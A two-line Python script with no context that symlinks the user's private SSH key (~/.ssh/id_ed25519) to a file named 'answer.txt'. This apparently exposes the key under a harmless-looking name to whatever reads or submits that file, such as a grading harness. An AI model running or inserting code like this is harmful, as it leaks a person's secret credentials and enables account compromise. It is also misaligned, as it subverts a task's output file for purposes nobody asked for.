import os
os.symlink(os.path.expanduser("~/.ssh/id_ed25519"), "answer.txt")
